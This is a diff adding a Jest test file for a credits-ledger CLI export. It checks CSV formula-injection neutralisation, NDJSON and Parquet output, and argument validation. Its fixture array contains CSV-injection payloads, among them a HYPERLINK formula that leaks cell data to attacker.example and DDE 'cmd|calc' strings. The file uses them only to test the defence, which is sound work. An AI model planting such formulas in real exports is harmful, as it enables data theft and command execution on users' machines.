@@ -1,0 +1,167 @@
+/**
+ * Exports an analyst and a spreadsheet can trust: CSV cells that a spreadsheet would run as
+ * formulas are neutralised (OWASP's CSV-injection rule), NDJSON keeps grants as objects, stdout
+ * carries the export alone however the CLI is started, and a range that cannot match is refused.
+ */
+import { spawnSync } from 'node:child_process';
+import { join, resolve } from 'node:path';
+import { parse } from 'csv-parse/sync';
+import { ApplyPlanAllowanceDocument, ConsumeCreditsDocument } from '../generated/graphql';
+import { expectData } from '../support/graphql-client';
+import { runCreditsCli, spawnCreditsCli } from '../support/cli';
+import { adminToken, newDataDir, startServer, TEST_JWT_SECRET, tokenFor } from '../support/server-process';
+
+const DAY = 24 * 60 * 60 * 1000;
+const ROOT = resolve(__dirname, '../..');
+let dataDir: string;
+
+/** References a caller may send with a spend, each of which a spreadsheet would evaluate. */
+const DANGEROUS = [
+  '=HYPERLINK("https://attacker.example/?leak="&A1,"Open invoice")',
+  "+cmd|' /C calc'!A0",
+  '-2+3+cmd|calc',
+  '@SUM(1+1)*cmd|calc',
+  '\t=1+1',
+  '\r=1+1',
+];
+const HARMLESS = ['Acme Corp, "Globex"', 'run 42'];
+
+beforeAll(async () => {
+  dataDir = newDataDir();
+  const server = await startServer({ dataDir });
+  const period = {
+    periodStart: new Date(Date.now() - DAY).toISOString(),
+    periodEnd: new Date(Date.now() + 29 * DAY).toISOString(),
+  };
+  await expectData(
+    server.url,
+    ApplyPlanAllowanceDocument,
+    { input: { workspaceId: 'acme', planId: 'growth', ...period } },
+    adminToken(),
+  );
+  for (const [index, reference] of [...DANGEROUS, ...HARMLESS].entries()) {
+    await expectData(
+      server.url,
+      ConsumeCreditsDocument,
+      { input: { workspaceId: 'acme', action: 'ACTION_PLAN_GENERATION', idempotencyKey: `k${index}`, reference } },
+      tokenFor('acme', 'MEMBER'),
+    );
+  }
+  expect(await server.stop()).toBe(0);
+});
+
+type CsvRow = Record<string, string>;
+const csvRows = (csv: string): CsvRow[] => parse<CsvRow>(csv, { columns: true });
+
+describe('CSV', () => {
+  it('prefixes every text cell that would start a formula with a single quote', () => {
+    const rows = csvRows(runCreditsCli(dataDir, ['export', '--format', 'csv']).stdout);
+    const references = rows.filter((row) => row.type === 'CONSUMPTION').map((row) => row.reference);
+    expect(references).toEqual([...DANGEROUS.map((reference) => `'${reference}`), ...HARMLESS]);
+    for (const row of rows) {
+      for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+@\t\r]/);
+    }
+  });
+
+  it('keeps numbers numbers: negative credits are not neutralised', () => {
+    const spends = csvRows(runCreditsCli(dataDir, ['export', '--format', 'csv']).stdout).filter(
+      (row) => row.type === 'CONSUMPTION',
+    );
+    expect(spends.map((row) => row.credits)).toEqual(Array<string>(8).fill('-8'));
+    expect(spends[0]?.balanceAfter).toBe('4992');
+  });
+});
+
+it('writes grants in NDJSON as objects', () => {
+  const records = runCreditsCli(dataDir, ['export', '--format', 'ndjson'])
+    .stdout.trim()
+    .split('\n')
+    .map((line) => JSON.parse(line) as { type: string; reference: string | null; grants: unknown });
+  const [allowance, firstSpend] = records;
+  const anyId: unknown = expect.any(String);
+  expect(allowance?.grants).toEqual([{ grantId: anyId, source: 'INCLUDED', credits: 5000 }]);
+  expect(firstSpend?.grants).toEqual([{ grantId: anyId, source: 'INCLUDED', credits: 8 }]);
+  // JSON is not evaluated by anything: the reference is kept exactly as it was sent.
+  expect(firstSpend?.reference).toBe(DANGEROUS[0]);
+});
+
+/** Reads a Parquet file with hyparquet (an ES module) in a plain node process, as JSON. */
+const READ_PARQUET = `
+import('hyparquet').then(async ({ asyncBufferFromFile, parquetReadObjects }) => {
+  const rows = await parquetReadObjects({ file: await asyncBufferFromFile(process.argv[1]) });
+  const plain = (_key, value) => (typeof value === 'bigint' ? Number(value) : value);
+  process.stdout.write(JSON.stringify(rows, plain));
+});
+`;
+
+describe('Parquet', () => {
+  it('writes the same entries as NDJSON, with typed columns', () => {
+    const file = join(dataDir, 'ledger.parquet');
+    expect(runCreditsCli(dataDir, ['export', '--format', 'parquet', '--out', file]).stderr).toMatch(
+      /exported 9 ledger entries/,
+    );
+    const read = spawnSync(process.execPath, ['-e', READ_PARQUET, file], { cwd: ROOT, encoding: 'utf8' });
+    expect(read.stderr).toBe('');
+    const rows = JSON.parse(read.stdout) as Record<string, unknown>[];
+    const ndjson = runCreditsCli(dataDir, ['export', '--format', 'ndjson'])
+      .stdout.trim()
+      .split('\n')
+      .map((line) => JSON.parse(line) as Record<string, unknown>);
+    expect(rows).toEqual(ndjson.map((record) => ({ ...record, position: Number(record.position) })));
+  });
+
+  it('needs --out: a binary file does not go to a terminal', () => {
+    const run = spawnCreditsCli(dataDir, ['export', '--format', 'parquet']);
+    expect(run.status).toBe(2);
+    expect(run.stderr).toMatch(/--format parquet writes a file: give it --out <file>/);
+  });
+});
+
+describe('started from npm', () => {
+  const env = () => ({ ...process.env, DATA_DIR: dataDir, AUTH_JWT_SECRET: TEST_JWT_SECRET, LOG_LEVEL: 'silent' });
+  const firstLine = (stdout: string) => stdout.slice(0, stdout.indexOf('\n'));
+  const HEADER =
+    'id,position,workspaceId,type,occurredAt,credits,balanceAfter,source,action,units,actorId,reference,refundedCredits,grants';
+
+  it.each([
+    ['npx credits export', 'npx', ['--no', 'credits', 'export']],
+    ['npm run --silent credits -- export', 'npm', ['run', '--silent', 'credits', '--', 'export']],
+  ])(
+    '`%s` writes the CSV and nothing else to stdout',
+    (_command, program, args) => {
+      const run = spawnSync(program, args, { cwd: ROOT, env: env(), encoding: 'utf8' });
+      expect(run.status).toBe(0);
+      expect(firstLine(run.stdout)).toBe(HEADER);
+      expect(csvRows(run.stdout)).toHaveLength(1 + DANGEROUS.length + HARMLESS.length);
+    },
+    60_000,
+  );
+});
+
+describe('contradictory filters', () => {
+  it('refuses --from after --to with a usage error (exit code 2) and writes nothing', () => {
+    const run = spawnCreditsCli(dataDir, ['export', '--from', '2026-06-02T00:00:00Z', '--to', '2026-06-01T00:00:00Z']);
+    expect(run.status).toBe(2);
+    expect(run.stdout).toBe('');
+    expect(run.stderr).toMatch(
+      /--from 2026-06-02T00:00:00.000Z is not earlier than --to 2026-06-01T00:00:00.000Z: no entry can match/,
+    );
+  });
+
+  it('refuses an empty range (--from equal to --to) the same way', () => {
+    const instant = '2026-06-01T00:00:00Z';
+    expect(spawnCreditsCli(dataDir, ['export', '--from', instant, '--to', instant]).status).toBe(2);
+  });
+
+  it('refuses an instant that is not ISO-8601 and an unknown format with the same exit code', () => {
+    for (const args of [
+      ['export', '--from', 'last tuesday'],
+      ['export', '--format', 'xlsx'],
+    ]) {
+      const run = spawnCreditsCli(dataDir, args);
+      expect(run.status).toBe(2);
+      expect(run.stdout).toBe('');
+      expect(run.stderr).toMatch(/^error: /);
+    }
+  });
+});
